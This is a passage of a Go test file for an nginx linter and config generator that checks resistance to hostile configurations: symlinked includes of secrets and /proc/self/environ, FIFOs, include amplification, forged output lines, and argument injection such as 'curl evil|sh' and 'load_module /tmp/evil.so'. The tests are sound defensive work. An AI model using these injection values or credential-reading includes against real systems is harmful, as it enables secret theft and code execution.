package main

import (
	"encoding/json"
	"fmt"
	"io"
	"os"
	"os/exec"
	"path/filepath"
	"runtime"
	"strings"
	"syscall"
	"testing"
	"time"

	"github.com/nginxtune/nginxtune/internal/nginxcheck"
	"github.com/nginxtune/nginxtune/internal/testkit/nginxtest"
	"github.com/nginxtune/nginxtune/internal/untrusted"
	"github.com/nginxtune/nginxtune/rules/engine"
)

// A configuration from a pull request is untrusted. Whatever it includes,
// no output format carries a byte of a file outside the linted tree, of
// the environment or of /proc, and every bound is a finding with exit 2,
// not a hang, a crash or an exhausted machine.
func TestHostileInput(t *testing.T) {
	const marker = "NGINXTUNE_SECRET_7f3a9c"
	t.Setenv("NGINXTUNE_TEST_TOKEN", marker)
	outside := t.TempDir()
	secret := filepath.Join(outside, "credentials")
	os.WriteFile(secret, []byte(marker+" token\n"), 0o644)
	os.WriteFile(filepath.Join(outside, "secret.conf"), []byte("server_name "+marker+";\n"), 0o644)

	tree := t.TempDir()
	os.Symlink(secret, filepath.Join(tree, "linked.conf"))
	os.Symlink(outside, filepath.Join(tree, "linkdir"))
	conf := fmt.Sprintf(`events {}
http {
    include /proc/self/environ;
    include %[1]s;
    include %[2]s/*.conf;
    include linked.conf;
    include linkdir/*.conf;
    include ../%[3]s/credentials;
    %[4]s
}
`, secret, outside, filepath.Base(outside), marker+strings.Repeat("x", 5000)+" on;")
	main := filepath.Join(tree, "nginx.conf")
	os.WriteFile(main, []byte(conf), 0o644)
	// the relative ../ include must resolve next to tree for the test to mean anything
	os.Symlink(outside, filepath.Join(filepath.Dir(tree), filepath.Base(outside)))
	for _, format := range []string{"text", "json", "sarif", "github"} {
		out, errOut, code := runCLI(t, "", "lint", "--no-config", "--no-host", "--format", format, main)
		if strings.Contains(out+errOut, marker+" token") || strings.Contains(out+errOut, "server_name "+marker) {
			t.Errorf("%s: content of a file outside the tree in the output:\n%s%s", format, out, errOut)
		}
		if strings.Count(out+errOut, marker) > 0 && strings.Contains(out+errOut, strings.Repeat("x", 100)) {
			t.Errorf("%s: a long argument is quoted whole", format)
		}
		if code == 3 {
			t.Errorf("%s: internal error", format)
		}
	}
	out, _, _ := runCLI(t, "", "lint", "--no-config", "--no-host", main)
	for _, want := range []string{"/proc/self/environ", "include-outside-tree"} {
		if !strings.Contains(out, want) {
			t.Errorf("no %q finding:\n%s", want, out)
		}
	}
}

// Files that are not regular are never read: a FIFO would block forever,
// /dev/zero would fill memory.
func TestHostileSpecialFiles(t *testing.T) {
	dir := t.TempDir()
	fifo := filepath.Join(dir, "fifo.conf")
	if err := syscall.Mkfifo(fifo, 0o644); err != nil {
		t.Skip(err)
	}
	os.WriteFile(filepath.Join(dir, "nginx.conf"), []byte("events {}\nhttp {\n    include fifo.conf;\n    include /dev/zero;\n}\n"), 0o644)
	done := make(chan struct{})
	var out, errOut string
	var code int
	go func() {
		out, errOut, code = runCLI(t, "", "lint", "--no-config", "--no-host", filepath.Join(dir, "nginx.conf"))
		close(done)
	}()
	select {
	case <-done:
	case <-time.After(10 * time.Second):
		t.Fatal("lint blocked on a FIFO")
	}
	if code != ExitError || !strings.Contains(out, "not a regular file") {
		t.Errorf("exit %d:\n%s%s", code, out, errOut)
	}
	// standard input without end: bounded
	_, errOut, code = runCLI(t, strings.Repeat("# x\n", (64<<20)/4+10), "lint", "--no-config", "-")
	if code != ExitError || !strings.Contains(errOut, "more than 64 MiB") {
		t.Errorf("endless stdin: exit %d: %s", code, errOut)
	}
}

// Include amplification: each file includes the next twice, 30 levels
// deep (2^30 places). nginxtune stops at its budget, says where, exits 2.
func TestHostileAmplification(t *testing.T) {
	dir := t.TempDir()
	for i := 0; i < 30; i++ {
		body := fmt.Sprintf("include f%d.conf;\ninclude f%d.conf;\nsendfile on;\n", i+1, i+1)
		os.WriteFile(filepath.Join(dir, fmt.Sprintf("f%d.conf", i)), []byte(body), 0o644)
	}
	os.WriteFile(filepath.Join(dir, "f30.conf"), []byte("gzip on;\n"), 0o644)
	os.WriteFile(filepath.Join(dir, "nginx.conf"), []byte("events {}\nhttp {\n    include f0.conf;\n}\n"), 0o644)
	start := time.Now()
	out, errOut, code := runCLI(t, "", "lint", "--no-config", "--no-host", filepath.Join(dir, "nginx.conf"))
	// a bound for a hang, not a benchmark: the walk nginxtune stops takes
	// well under a second here, the 2^30 places it refuses hours
	if time.Since(start) > 30*time.Second {
		t.Errorf("took %v", time.Since(start))
	}
	if code != ExitError || !strings.Contains(out, "expands to more than") {
		t.Errorf("exit %d:\n%s%s", code, out, errOut)
	}
}

// Concurrent --fix runs on one tree give what a single run gives, a file
// reached by two names (a hard link) is fixed once, and a read-only file
// is left alone.
func TestFixConcurrentAndLinks(t *testing.T) {
	src := "events {}\nhttp {\n    server {\n        listen 127.0.0.1:8000 ssl;\n        ssl_certificate cert.pem;\n        ssl_certificate_key key.pem;\n        location / {\n            proxy_pass http://127.0.0.1:9000;\n        }\n    }\n}\n"
	single := t.TempDir()
	os.WriteFile(filepath.Join(single, "nginx.conf"), []byte(src), 0o644)
	runCLI(t, "", "lint", "--no-config", "--no-host", "--nginx-version", "1.22.1", "--fix", filepath.Join(single, "nginx.conf"))
	want, _ := os.ReadFile(filepath.Join(single, "nginx.conf"))
	if string(want) == src {
		t.Fatal("the single run fixed nothing")
	}
	if nginxcheck.Binary() != "" && os.Geteuid() == 0 {
		if res := nginxtest.CheckTree(t, filepath.Join(single, "nginx.conf")); !res.OK {
			t.Fatalf("nginx -t on the fixed file: %s", res.Output)
		}
	}
	for trial := 0; trial < 20; trial++ {
		dir := t.TempDir()
		p := filepath.Join(dir, "nginx.conf")
		os.WriteFile(p, []byte(src), 0o644)
		done := make(chan struct{})
		for i := 0; i < 2; i++ {
			go func() {
				defer func() { done <- struct{}{} }()
				var out, errb strings.Builder
				run([]string{"lint", "--no-config", "--no-host", "--nginx-version", "1.22.1", "--fix", p}, strings.NewReader(""), &out, &errb)
			}()
		}
		<-done
		<-done
		if got, _ := os.ReadFile(p); string(got) != string(want) {
			t.Fatalf("trial %d: concurrent runs gave\n%s\nwant\n%s", trial, got, want)
		}
	}
	// a hard link to a fixed file: one file, fixed once
	dir := t.TempDir()
	os.MkdirAll(filepath.Join(dir, "conf.d"), 0o755)
	os.WriteFile(filepath.Join(dir, "conf.d/app.conf"), []byte("gzip_comp_level 9;\n"), 0o644)
	os.Link(filepath.Join(dir, "conf.d/app.conf"), filepath.Join(dir, "conf.d/again.conf"))
	os.WriteFile(filepath.Join(dir, "nginx.conf"), []byte("events {}\nhttp {\n    gzip on;\n    include conf.d/*.conf;\n}\n"), 0o644)
	os.Chmod(filepath.Join(dir, "nginx.conf"), 0o444)
	_, errOut, _ := runCLI(t, "", "lint", "--no-config", "--no-host", "--nginx-version", "1.22.1", "--fix", filepath.Join(dir, "nginx.conf"))
	if b, _ := os.ReadFile(filepath.Join(dir, "nginx.conf")); strings.Contains(string(b), "gzip_types") {
		t.Errorf("a read-only file was rewritten")
	}
	if !strings.Contains(errOut, "read-only") {
		t.Errorf("no word about the read-only file: %s", errOut)
	}
	st, _ := os.Stat(filepath.Join(dir, "conf.d/app.conf"))
	if st.Sys().(*syscall.Stat_t).Nlink != 2 {
		t.Errorf("the hard link was broken")
	}
	if b, _ := os.ReadFile(filepath.Join(dir, "conf.d/again.conf")); string(b) != "gzip_comp_level 5;\n" {
		t.Errorf("the hard-linked file: %q (fixed once, through both names)", b)
	}
}

// gen never writes through a symbolic link inside --out without --force,
// writes every file or none, and honours the umask.
func TestGenOutSafety(t *testing.T) {
	out := t.TempDir()
	elsewhere := t.TempDir()
	os.Symlink(elsewhere, filepath.Join(out, "sysctl.d"))
	args := []string{"gen", "--profile", "static", "--cpus", "2", "--memory", "4GiB", "--nofile", "1024:524288", "--nginx-version", "1.22.1", "--verify=false", "--out", out}
	_, errOut, code := runCLI(t, "", args...)
	if code != ExitError || !strings.Contains(errOut, "symbolic link inside --out") {
		t.Errorf("exit %d: %s", code, errOut)
	}
	if entries, _ := os.ReadDir(elsewhere); len(entries) != 0 {
		t.Errorf("written through the link: %v", entries)
	}
	if _, err := os.Stat(filepath.Join(out, "nginx.conf")); err == nil {
		t.Error("some files were written")
	}
	os.Remove(filepath.Join(out, "sysctl.d"))
	old := syscall.Umask(0o077)
	defer syscall.Umask(old)
	if _, errOut, code := runCLI(t, "", args...); code != 0 {
		t.Fatalf("exit %d: %s", code, errOut)
	}
	if st, _ := os.Stat(filepath.Join(out, "nginx.conf")); st.Mode().Perm() != 0o600 {
		t.Errorf("mode %o under umask 077", st.Mode().Perm())
	}
}

// Paths that were quadratic stay linear: directives on one line, a long
// Lua block, a chain of included files, suppressions, nested locations.
// Each shape is linted at two sizes, and twice the size may take about
// twice the memory, not four times; the time limit only catches a hang,
// and the benchmarks measure speed.
func TestHostileShapes(t *testing.T) {
	dir := t.TempDir()
	write := func(name, s string) string {
		p := filepath.Join(dir, name)
		os.MkdirAll(filepath.Dir(p), 0o755)
		os.WriteFile(p, []byte(s), 0o644)
		return p
	}
	// each shape at a size n: its work must grow as n does
	shapes := []struct {
		name string
		n    int
		tree func(sub string, n int) string
	}{
		{"oneline", 2000, func(sub string, n int) string {
			return write(sub+"/nginx.conf", "events {}\nhttp {\n"+strings.Repeat("sendfile on; ", n)+"\n}\n")
		}},
		{"lua", 20000, func(sub string, n int) string {
			return write(sub+"/nginx.conf", "events {}\nhttp {\n server {\n  location / {\n   content_by_lua_block {\n"+strings.Repeat("x=[[a]]\n", n)+"   }\n  }\n }\n}\n")
		}},
		{"chain", 1000, func(sub string, n int) string {
			for i := range n {
				next := fmt.Sprintf("include c%d.conf;\n", i+1)
				if i == n-1 {
					next = "sendfile on;\n"
				}
				write(fmt.Sprintf("%s/c%d.conf", sub, i), next)
			}
			return write(sub+"/nginx.conf", "events {}\nhttp {\n include c0.conf;\n}\n")
		}},
		{"supp", 2000, func(sub string, n int) string {
			return write(sub+"/nginx.conf", "events {}\nhttp {\n"+strings.Repeat("# nginxtune:disable gzip-comp-level,keepalive-disabled\ngzip_comp_level 9;\n", n)+"}\n")
		}},
		{"deep", 2000, func(sub string, n int) string {
			// nginx -t accepts 10,000 nested locations
			return write(sub+"/nginx.conf", "events {}\nhttp {\n server {\n  listen 127.0.0.1:8080;\n"+strings.Repeat("location /a {\n", n)+strings.Repeat("}\n", n)+" }\n}\n")
		}},
	}
	for _, sh := range shapes {
		var allocated [2]uint64
		for i, n := range []int{sh.n, 2 * sh.n} {
			p := sh.tree(fmt.Sprintf("%s%d", sh.name, n), n)
			var before, after runtime.MemStats
			runtime.GC()
			runtime.ReadMemStats(&before)
			start := time.Now()
			_, errOut, code := runCLI(t, "", "lint", "--no-config", "--no-host", "--format", "json", p)
			d := time.Since(start)
			runtime.ReadMemStats(&after)
			allocated[i] = after.TotalAlloc - before.TotalAlloc
			// only a hang is too slow: what the work grows with is
			// measured below as memory
			if d > 5*time.Minute || code == 3 || sh.name == "deep" && code == ExitError {
				t.Errorf("%s at %d: %v, exit %d %s", sh.name, n, d, code, errOut)
			}
		}
		// twice the size, about twice the memory: a walk quadratic in
		// the size takes four times (a list of nested locations copied
		// into each level above took 137 MB for 4,000)
		if allocated[1] > 3*allocated[0]+1<<20 {
			t.Errorf("%s: %d bytes at %d, %d at %d: want it linear", sh.name, allocated[0], sh.n, allocated[1], 2*sh.n)
		}
		t.Logf("%s: %d bytes at %d, %d at %d", sh.name, allocated[0], sh.n, allocated[1], 2*sh.n)
	}
}

// A full disk while the fixes are staged changes nothing: the second file
// of two does not fit on a small tmpfs, and the first stays as it was.
func TestFixFullDisk(t *testing.T) {
	if os.Geteuid() != 0 {
		t.Skip("mounting a tmpfs needs root")
	}
	dir := t.TempDir()
	if out, err := runCmd(t, "/", "mount", "-t", "tmpfs", "-o", "size=64k", "tmpfs", dir); err != nil {
		t.Skipf("cannot mount a tmpfs here: %v %s", err, out)
	}
	defer runCmd(t, "/", "umount", dir)
	a := "events {}\nhttp {\n    gzip_comp_level 9;\n    include z.conf;\n}\n"
	b := "gzip_types text/css image/jpeg;\n# " + strings.Repeat("x", 20000) + "\n"
	os.WriteFile(filepath.Join(dir, "nginx.conf"), []byte(a), 0o644)
	os.WriteFile(filepath.Join(dir, "z.conf"), []byte(b), 0o644)
	// fill the disk so that a copy of b.conf (20 KB) cannot be staged
	fill, _ := os.Create(filepath.Join(dir, "fill"))
	chunk := make([]byte, 1024)
	for {
		if _, err := fill.Write(chunk); err != nil {
			break
		}
	}
	fill.Close()
	os.Truncate(filepath.Join(dir, "fill"), func() int64 { st, _ := os.Stat(filepath.Join(dir, "fill")); return st.Size() - 8*1024 }())
	_, errOut, code := runCLI(t, "", "lint", "--no-config", "--no-host", "--nginx-version", "1.22.1", "--fix", filepath.Join(dir, "nginx.conf"))
	if code != ExitError || !strings.Contains(errOut, "nothing written") {
		t.Errorf("exit %d: %s", code, errOut)
	}
	if got, _ := os.ReadFile(filepath.Join(dir, "nginx.conf")); string(got) != a {
		t.Errorf("nginx.conf changed:\n%s", got)
	}
	if got, _ := os.ReadFile(filepath.Join(dir, "z.conf")); string(got) != b {
		t.Errorf("z.conf changed")
	}
	if entries, _ := os.ReadDir(dir); len(entries) != 3 {
		t.Errorf("temporary files left: %v", entries)
	}
}

// The hostile inputs, run by the real binary as a separate process: its
// peak memory (the kernel's maximum resident set) stays bounded. The Go
// runtime reserves address space up front, so a limit on virtual memory
// (prlimit --as) would stop the runtime itself; the resident peak is what
// a runner pays.
func TestHostilePeakMemory(t *testing.T) {
	if testing.Short() {
		t.Skip("builds the binary")
	}
	bin := filepath.Join(t.TempDir(), "nginxtune")
	if out, err := runCmd(t, root, "go", "build", "-o", bin, "./cmd/nginxtune"); err != nil {
		t.Fatalf("build: %v\n%s", err, out)
	}
	dir := t.TempDir()
	for i := 0; i < 30; i++ {
		os.WriteFile(filepath.Join(dir, fmt.Sprintf("f%d.conf", i)), []byte(fmt.Sprintf("include f%d.conf;\ninclude f%d.conf;\nsendfile on;\n", i+1, i+1)), 0o644)
	}
	os.WriteFile(filepath.Join(dir, "f30.conf"), []byte("gzip on;\n"), 0o644)
	os.WriteFile(filepath.Join(dir, "amplified.conf"), []byte("events {}\nhttp {\n    include f0.conf;\n}\n"), 0o644)
	var b strings.Builder
	b.WriteString("events {}\nhttp {\n")
	for i := 0; i < 40000; i++ {
		b.WriteString("sendfile on; ")
	}
	b.WriteString("\n}\n")
	os.WriteFile(filepath.Join(dir, "oneline.conf"), []byte(b.String()), 0o644)
	// GNU time forks its child (Go's own exec shares the test's memory
	// until exec, and the kernel counts that into the child's peak)
	gnuTime := "/usr/bin/time"
	if _, err := os.Stat(gnuTime); err != nil {
		if os.Getenv("CI") != "" {
			t.Fatal("GNU time is not installed; scripts/deps.sh installs it")
		}
		t.Skip("GNU time is not installed")
	}
	for _, name := range []string{"amplified.conf", "oneline.conf"} {
		report := filepath.Join(dir, name+".rss")
		cmd := exec.Command(gnuTime, "-f", "%M %x", "-o", report, bin, "lint", "--no-config", "--no-host", "--format", "sarif", filepath.Join(dir, name))
		cmd.Stdout, cmd.Stderr = io.Discard, io.Discard
		cmd.Run()
		b, _ := os.ReadFile(report)
		var kib, code int
		fmt.Sscanf(strings.TrimSpace(string(b[strings.LastIndex(string(b[:max(0, len(b)-1)]), "\n")+1:])), "%d %d", &kib, &code)
		t.Logf("%s: exit %d, peak %d MiB", name, code, kib>>10)
		if kib == 0 || kib > 512<<10 || code == 3 {
			t.Errorf("%s: peak %d KiB, exit %d (%q)", name, kib, code, b)
		}
	}
}

// --changed fails on an error in any file of the tree, changed or not;
// also in a checkout reached through a link (the working directory as the
// shell names it), where the changed file, resolved, was compared with the
// unresolved working directory, no nginx.conf was found, and the file was
// linted alone.
func TestChangedFailsOnErrorsElsewhere(t *testing.T) {
	dir := t.TempDir()
	os.MkdirAll(filepath.Join(dir, "conf.d"), 0o755)
	os.WriteFile(filepath.Join(dir, "nginx.conf"), []byte("events {}\nhttp {\n    include conf.d/*.conf;\n}\n"), 0o644)
	os.WriteFile(filepath.Join(dir, "conf.d/a.conf"), []byte("server { listen 80; }\n"), 0o644)
	os.WriteFile(filepath.Join(dir, "conf.d/b.conf"), []byte("server { listen 81\n"), 0o644)
	link := filepath.Join(t.TempDir(), "checkout")
	if err := os.Symlink(dir, link); err != nil {
		t.Fatal(err)
	}
	for name, wd := range map[string]string{"directory": dir, "link": link} {
		t.Run(name, func(t *testing.T) {
			t.Chdir(wd)
			if got, _ := os.Getwd(); got != wd {
				t.Skipf("the working directory reads %s, not %s", got, wd)
			}
			out, errOut, code := runCLI(t, "", "lint", "--no-config", "--no-host", "--changed", "conf.d/a.conf")
			if code != ExitError || !strings.Contains(out, "b.conf") {
				t.Errorf("exit %d:\n%s%s", code, out, errOut)
			}
		})
	}
}

// --fix on a tree that is not the live one never runs nginx -t on it: nginx
// -t loads the modules a configuration names and creates its log, pid and
// temp paths wherever they point. With --nginx-test (a tree the user
// trusts) it does, which shows the marker files would appear.
func TestFixRunsNoNginxOnUntrustedTree(t *testing.T) {
	if nginxcheck.Binary() == "" || os.Geteuid() != 0 {
		t.Skip("needs nginx and root")
	}
	for _, trusted := range []bool{false, true} {
		outside := t.TempDir()
		tree := t.TempDir()
		conf := fmt.Sprintf(`error_log %[1]s/error.log;
pid %[1]s/nginx.pid;
events {}
http {
    access_log %[1]s/access.log;
    client_body_temp_path %[1]s/body;
    proxy_cache_path %[1]s/cache keys_zone=z:1m;
    server {
        listen 127.0.0.1:8080;
        location / { proxy_pass http://127.0.0.1:9000; }
    }
}
`, outside)
		p := filepath.Join(tree, "nginx.conf")
		os.WriteFile(p, []byte(conf), 0o644)
		args := []string{"lint", "--no-config", "--no-host", "--nginx-version", "1.22.1", "--fix", p}
		if trusted {
			args = append(args, "--nginx-test")
		}
		_, errOut, _ := runCLI(t, "", args...)
		if !strings.Contains(errOut, "applied") {
			t.Fatalf("no fix applied: %s", errOut)
		}
		entries, _ := os.ReadDir(outside)
		switch {
		case !trusted && len(entries) > 0:
			t.Errorf("nginx -t ran on an untrusted tree: it created %v", entries)
		case !trusted && !strings.Contains(errOut, "not with nginx -t"):
			t.Errorf("the run does not say nginx -t was not run: %s", errOut)
		case trusted && len(entries) == 0:
			t.Errorf("--nginx-test: nginx -t did not run (nothing created)")
		}
	}
}

// The main file obeys the tree's boundary: a checkout's nginx.conf (or a
// *.conf of a linted directory) that is a link to a file outside is not
// read, quoted or fixed; a --changed path outside the repository, or a
// changed link pointing out of it, is refused.
func TestRootAndChangedOutside(t *testing.T) {
	const marker = "NGINXTUNE_ROOT_SECRET_51c2"
	outside := t.TempDir()
	secret := filepath.Join(outside, "passwd")
	body := "events {}\nhttp { server { listen 80; server_name " + marker + "; location / { proxy_pass http://127.0.0.1:9000; } } }\n"
	os.WriteFile(secret, []byte(body), 0o644)
	repo := t.TempDir()
	os.MkdirAll(filepath.Join(repo, "conf.d"), 0o755)
	os.Symlink(secret, filepath.Join(repo, "nginx.conf"))
	os.WriteFile(filepath.Join(repo, "conf.d/a.conf"), []byte("server { listen 80; }\n"), 0o644)
	os.Symlink(secret, filepath.Join(repo, "conf.d/b.conf"))
	t.Chdir(repo)
	for _, args := range [][]string{
		{"lint", "--fix", filepath.Join(repo, "nginx.conf")},
		{"lint", repo},
		{"lint", filepath.Join(repo, "conf.d")},
		{"lint", "--changed", secret},
		{"lint", "--changed", "conf.d/b.conf"},
		{"parse", filepath.Join(repo, "nginx.conf")},
	} {
		args = append([]string{args[0], "--no-config"}, args[1:]...)
		if args[0] == "lint" {
			args = append(args, "--no-host", "--nginx-version", "1.22.1")
		}
		out, errOut, code := runCLI(t, "", args...)
		if strings.Contains(out+errOut, marker) || code != ExitError {
			t.Errorf("%v: exit %d, want 2 and nothing of the outside file:\n%s%s", args, code, out, errOut)
		}
	}
	if b, _ := os.ReadFile(secret); string(b) != body {
		t.Errorf("the outside file was rewritten:\n%s", b)
	}
}

// A file name from the tree cannot forge a line of output: a name holding
// line breaks and a GitHub workflow command, or a right-to-left override,
// is escaped on standard output and standard error, in every subcommand
// and format, JSON included.
func TestFileNamesCannotForgeOutput(t *testing.T) {
	const inject = "c\n::error file=x,line=1::INJECTED\n.conf"
	const bidi = "a\u202egnp.conf"
	dir := t.TempDir()
	os.MkdirAll(filepath.Join(dir, "conf.d"), 0o755)
	os.WriteFile(filepath.Join(dir, "nginx.conf"), []byte("events {}\nhttp {\n    include conf.d/*;\n}\n"), 0o644)
	for _, name := range []string{inject, bidi} {
		if err := os.WriteFile(filepath.Join(dir, "conf.d", name), []byte("server { listen 80; gzip_comp_level 9; }\n server {\n"), 0o644); err != nil {
			t.Skip(err)
		}
	}
	t.Chdir(dir)
	var runs [][]string
	for _, format := range []string{"text", "json", "sarif", "github"} {
		runs = append(runs, []string{"lint", "--no-config", "--no-host", "--format", format, dir})
	}
	runs = append(runs,
		[]string{"lint", "--no-config", "--no-host", "--changed", filepath.Join("conf.d", inject), filepath.Join("conf.d", bidi)},
		[]string{"lint", "--no-config", "--no-host", "--changed", filepath.Join("conf.d", inject+"x")},
		[]string{"lint", "--no-config", "--no-host", filepath.Join(dir, "conf.d", inject+"missing")},
		[]string{"parse", "--no-config", dir},
		[]string{"parse", filepath.Join(dir, "conf.d", inject)},
	)
	for _, args := range runs {
		if args[0] == "parse" && args[1] == "--no-config" {
			args = append(args[:1], args[2:]...)
		}
		out, errOut, _ := runCLI(t, "", args...)
		for _, line := range strings.Split(out+errOut, "\n") {
			if strings.HasPrefix(line, "::error file=x") || strings.HasPrefix(line, ".conf") {
				t.Errorf("%v: a forged line: %q", args[:3], line)
			}
		}
		// JSON carries the name as data, the override as \u202e (a JSON
		// string reads back exact); text, annotations and standard error
		// as \u{202E}; SARIF's URIs percent-encoded
		shown := out + errOut
		if strings.Contains(shown, "\u202e") {
			t.Errorf("%v: a raw right-to-left override in the output", args)
		}
	}
}

// A settings file found beside the configuration comes with it (from a pull
// request): it cannot widen what is read, may not be a link out of its
// directory or a device, and is bounded in size; a settings file the user
// names with --config may map where it likes.
func TestSettingsFileCannotWiden(t *testing.T) {
	const marker = "NGINXTUNE_SETTINGS_SECRET_9d0e"
	outside := t.TempDir()
	os.WriteFile(filepath.Join(outside, "site.conf"), []byte("server { listen 80; server_name "+marker+"; }\n"), 0o644)
	os.WriteFile(filepath.Join(outside, "nginx.conf"), []byte("events {}\nhttp { server { server_name "+marker+"; } }\n"), 0o644)
	os.WriteFile(filepath.Join(outside, "other.yaml"), []byte(marker+": 1\n"), 0o644)
	for name, settings := range map[string]string{
		"map":        "map:\n  /srv/conf: " + outside + "\n",
		"map-dotdot": "map:\n  /srv/conf: ../" + filepath.Base(outside) + "\n",
		"prefix":     "prefix: /\n",
		"roots":      "roots:\n  - " + filepath.Join(outside, "nginx.conf") + "\n",
		"link-out":   "",
		"dev-zero":   "",
	} {
		t.Run(name, func(t *testing.T) {
			tree := filepath.Join(t.TempDir(), "tree")
			os.MkdirAll(tree, 0o755)
			// the tree's sibling, for the ../ map
			os.Symlink(outside, filepath.Join(filepath.Dir(tree), filepath.Base(outside)))
			os.WriteFile(filepath.Join(tree, "nginx.conf"), []byte("events {}\nhttp {\n    include /srv/conf/*.conf;\n}\n"), 0o644)
			cfg := filepath.Join(tree, ".nginxtune.yaml")
			switch name {
			case "link-out":
				os.Symlink(filepath.Join(outside, "other.yaml"), cfg)
			case "dev-zero":
				os.Symlink("/dev/zero", cfg)
			default:
				os.WriteFile(cfg, []byte(settings), 0o644)
			}
			t.Chdir(tree)
			out, errOut, code := runCLI(t, "", "lint", "--no-host", "--nginx-version", "1.22.1", filepath.Join(tree, "nginx.conf"))
			if strings.Contains(out+errOut, marker) || code != ExitError || strings.Count(errOut, "\n") != 1 {
				t.Errorf("exit %d, want 2 with one line and nothing from outside:\n%s%s", code, out, errOut)
			}
			if name == "map" {
				// named by the user, the same file maps
				out, errOut, _ := runCLI(t, "", "lint", "--no-host", "--nginx-version", "1.22.1", "--config", cfg, filepath.Join(tree, "nginx.conf"))
				if !strings.Contains(out, "site.conf") {
					t.Errorf("--config: the map was not applied:\n%s%s", out, errOut)
				}
			}
		})
	}
}

// What nginx itself refuses stays a failure whatever a settings file in the
// tree says; the command line still decides.
func TestSettingsCannotPassWhatNginxRefuses(t *testing.T) {
	tree := t.TempDir()
	os.WriteFile(filepath.Join(tree, "nginx.conf"), []byte("events {}\nhttp {\n    server { listen 80; sendfil on; }\n}\n"), 0o644)
	cfg := filepath.Join(tree, ".nginxtune.yaml")
	lint := func(extra ...string) (string, int) {
		args := append([]string{"lint", "--no-host", "--nginx-version", "1.22.1"}, extra...)
		out, errOut, code := runCLI(t, "", append(args, filepath.Join(tree, "nginx.conf"))...)
		return out + errOut, code
	}
	for _, settings := range []string{"severity:\n  unknown-directive: info\n", "disable:\n  - unknown-directive\n"} {
		os.WriteFile(cfg, []byte(settings), 0o644)
		if out, code := lint(); code != ExitError || !strings.Contains(out, ".nginxtune.yaml:2") {
			t.Errorf("%q: exit %d, want 2 naming the line:\n%s", settings, code, out)
		}
	}
	os.WriteFile(cfg, []byte("fail-on: none\nenable:\n  - gzip-comp-level\n"), 0o644)
	if out, code := lint(); code != ExitFindings || !strings.Contains(out, "unknown-directive") {
		t.Errorf("fail-on none in the tree: exit %d, want 1:\n%s", code, out)
	}
	if out, code := lint("--fail-on", "none"); code != ExitOK {
		t.Errorf("--fail-on none on the command line: exit %d, want 0:\n%s", code, out)
	}
	if out, code := lint("--disable", "unknown-directive"); code != ExitOK || strings.Contains(out, "sendfil") {
		t.Errorf("--disable on the command line: exit %d:\n%s", code, out)
	}
}

// Facts files are bounded and range-checked: a value no host can have is an
// error naming the fact, not a number the rules compute with; a file that is
// no facts file at all is one short line, not its lines quoted.
func TestFactsFileBounds(t *testing.T) {
	dir := t.TempDir()
	conf := filepath.Join(dir, "nginx.conf")
	os.WriteFile(conf, []byte("events {}\nhttp {}\n"), 0o644)
	for name, facts := range map[string]string{
		"negative cpus":   "cpu_online: -4\n",
		"somaxconn":       "net_core_somaxconn: -2147483648\n",
		"port range":      "net_ipv4_ip_local_port_range: {low: 60000, high: 1024}\n",
		"soft above hard": "nofile: {soft: 100000, hard: 1024}\n",
		"huge":            "kernel: " + strings.Repeat("x", 2<<20) + "\n",
		// not a facts file: yaml named each of its lines in the error
		"a password file": passwordFile(40),
	} {
		p := filepath.Join(dir, "facts.yaml")
		os.WriteFile(p, []byte(facts), 0o644)
		for _, cmd := range [][]string{{"lint", "--no-config", "--facts", p, conf}, {"gen", "--profile", "static", "--facts", p}} {
			out, errOut, code := runCLI(t, "", cmd...)
			if code != ExitError || strings.Count(errOut, "\n") != 1 || len(errOut) > 400 {
				t.Errorf("%s, %s: exit %d, want 2 with one short line:\n%s%s", name, cmd[0], code, out, untrusted.CutAt(errOut, 400))
			}
		}
	}
	os.WriteFile(filepath.Join(dir, "facts.yaml"), []byte("kernel: {value: 6.1.0, source: "+strings.Repeat("y", 100000)+"}\ncpu_online: 2\n"), 0o644)
	if _, errOut, code := runCLI(t, "", "lint", "--no-config", "--facts", filepath.Join(dir, "facts.yaml"), conf); code == ExitError {
		t.Errorf("a long source is clipped, not refused: %s", errOut)
	}
}

// passwordFile is n lines of a shadow password file, each user its own.
func passwordFile(n int) string {
	var b strings.Builder
	for i := range n {
		fmt.Fprintf(&b, "user%d:$6$SECRETHASH%d:20228:0:99999:7:::\n", i, i)
	}
	return b.String()
}

// gen refuses values that would leave their place: a server name that walks
// out of --out or carries a directive, a profile file whose values inject
// directives, numbers past what a host can have. Nothing is written.
func TestGenRefusesInjection(t *testing.T) {
	base := t.TempDir()
	out := filepath.Join(base, "a", "b", "out")
	os.MkdirAll(out, 0o755)
	gen := func(args ...string) (string, int) {
		all := append([]string{"gen", "--verify=false", "--cpus", "2", "--memory", "2GiB", "--out", out}, args...)
		o, e, code := runCLI(t, "", all...)
		return o + e, code
	}
	for _, args := range [][]string{
		{"--profile", "static", "--server-name", "../../X"},
		{"--profile", "static", "--server-name", "a.example;"},
		{"--profile", "static", "--server-name", "a.example { }"},
		{"--profile", "static", "--server-name", "a.example\nload_module /tmp/x.so"},
		{"--profile", "static", "--root", "/srv/www; autoindex on"},
		{"--profile", "static", "--root", "/srv/../etc"},
		{"--profile", "proxy", "--upstream", "127.0.0.1:8080; }"},
		{"--profile", "proxy", "--upstream", "127.0.0.1:99999"},
		{"--profile", "static", "--acme", "--server-name", "*.example.com"},
		{"--profile", "static", "--tls", "/etc/ssl/a.pem\ncurl evil|sh,/etc/ssl/k.pem"},
		{"--profile", "proxy", "--concurrency", "9223372036854775807"},
		{"--profile", "php", "--fpm-max-children", "9223372036854775807"},
		{"--profile", "static", "--cpus", "9223372036854775807"},
		{"--profile", "static", "--memory", "NaNGiB"},
		{"--profile", "static", "--memory", "1e300GiB"},
		{"--profile", "static", "--nofile", "100000:10"},
		{"--profile", "static", "--csp", "default-src 'self' ##[error]x"},
	} {
		msg, code := gen(args...)
		if code != ExitError || strings.Contains(msg, "wrote") {
			t.Errorf("%q: exit %d, want 2 and nothing written:\n%s", args, code, msg)
		}
	}
	for name, profile := range map[string]string{
		"root":      "name: x\nkind: static\nroot: \"/srv; load_module /tmp/evil.so\"\nindex: [index.html]\ntry_files: $uri =404\ngzip_types: [text/css]\nclient_max_body_size: 1m\nkeepalive_timeout: 30s\n",
		"try_files": "name: x\nkind: static\nroot: /srv\nindex: [index.html]\ntry_files: \"$uri =404; } server { listen 1\"\ngzip_types: [text/css]\nclient_max_body_size: 1m\nkeepalive_timeout: 30s\n",
